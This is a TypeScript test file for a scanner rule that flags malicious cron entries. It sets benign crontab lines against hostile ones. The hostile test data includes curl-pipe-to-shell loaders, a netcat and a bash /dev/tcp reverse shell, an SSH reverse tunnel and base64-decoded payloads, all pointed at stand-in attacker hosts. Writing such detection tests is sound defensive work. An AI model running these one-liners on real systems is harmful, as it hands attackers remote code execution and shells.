import { lineId } from '../reading/verdict/line-id';
import { cronLine } from '../testing/cron';
import { ruleTable } from '../testing/table';
import { cronDownloadExec } from './cron-download-exec';

const line = (text: string) => ({ facts: { cronEntries: [cronLine(text)] } });
const found = (text: string, says: string) => ({
  ...line(text),
  finds: [
    {
      subject: lineId('/var/spool/cron/crontabs/root', text),
      severity: 'critical' as const,
      says,
      offers: ['cron.removeEntry'],
    },
  ],
});
const mac = '*/5 * * * * curl -fsSL http://198.51.100.23/mac.sh | sh';

ruleTable(cronDownloadExec, {
  passes: {
    'no entries': { facts: { cronEntries: [] } },
    'a backup': line('30 3 * * * /usr/local/bin/backup-shop > /dev/null 2>&1'),
    certbot: line('0 */12 * * * test -x /usr/bin/certbot && certbot -q renew'),
    'acme.sh': line('12 0 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null'),
    'its own health check': line('* * * * * curl -fsS http://127.0.0.1/cron.php > /dev/null'),
    'a check of a neighbour': line('*/5 * * * * wget -qO- http://10.0.0.5:8080/health || /usr/bin/logger down'),
    'a ping by name': line('*/5 * * * * curl -fsS https://hc-ping.com/abc > /dev/null'),
    'a download that is only stored': line(
      '0 1 * * * curl -o /srv/geo.mmdb https://example.org/geo.mmdb; chmod 644 /srv/geo.mmdb',
    ),
    'figures for a monitoring': line(
      '* * * * * /opt/t | curl -s --data-binary @- http://45.10.88.102:9091/metrics/job/t',
    ),
    'a sign of life': line('* * * * * curl -fsS -o /dev/null http://45.10.88.102/ping/1'),
    'a page kept warm': line('* * * * * wget -q --spider http://45.10.88.102/'),
    'a download that is filtered': line('0 1 * * * curl -s https://example.org/list | grep -v sh | sort > /srv/list'),
  },
  fails: {
    'the incident': {
      ...found(mac, 'Cron runs curl -fsSL http://198.51.100.23/mac.sh | sh every 5 minutes as root.'),
    },
    'a loader with redirection': found('* * * * * wget -q -O - https://e.example/i 2>/dev/null | bash', 'every minute'),
    'through sudo and a path': found('@reboot curl https://e.example/i | sudo -E /bin/bash -', 'at every start'),
    'through env': found('0 * * * * curl -s https://e.example/x | /usr/bin/env bash', 'env bash'),
    'into python': found('0 * * * * curl -s https://e.example/x.py | python3', 'every hour'),
    'through another tool': found('0 * * * * curl -s https://e.example/x | base64 -d | sh', '| sh'),
    'netcat hands out a shell': found('0 * * * * nc 45.10.88.102 4444 -e /bin/bash', 'nc 45.10.88.102'),
    'a tunnel back': found(
      '0 * * * * ssh -o StrictHostKeyChecking=no -fNR 2222:localhost:22 t@45.10.88.102',
      '45.10.88.102',
    ),
    'what python decodes': found(`0 * * * * python3 -c "exec(b.b64decode('aW1wb3J0IG9z'))"`, 'exec'),
    substituted: found('0 * * * * sh -c "$(curl -fsSL https://e.example/x)"', 'curl'),
    'decoded into a shell': found('0 2 * * * echo aWQgPiAvdG1wL3g= | base64 -d | sh', 'base64 -d'),
    'an address without a name': found('0 2 * * * wget -q http://45.10.88.102/a -O /opt/a', 'http://45.10.88.102/a'),
    'a bash device': found('0 2 * * * exec 5<>/dev/tcp/e.example/80; cat <&5 | sh', '| sh'),
    'a shell wired to a device': found('* * * * * bash -i >& /dev/tcp/45.10.88.102/4444 0>&1', '/dev/tcp/'),
    'a file of its own in cron.d can go': {
      facts: { cronEntries: [cronLine(mac, { path: '/etc/cron.d/zzh' })] },
      finds: [
        { subject: `/etc/cron.d/zzh#${mac}`, shows: 'none owns', offers: ['cron.removeEntry', 'file.quarantine'] },
      ],
    },
    'a script that cron runs whole': {
      facts: {
        cronEntries: [
          cronLine('curl -s https://e.example/x | sh', { path: '/etc/cron.daily/x', schedule: 'run-parts' }),
        ],
      },
      finds: [{ subject: '/etc/cron.daily/x#curl -s https://e.example/x | sh', offers: ['file.quarantine'] }],
    },
  },
  unknowns: { 'over the Docker API alone': { facts: {}, because: 'cron entries' } },
});
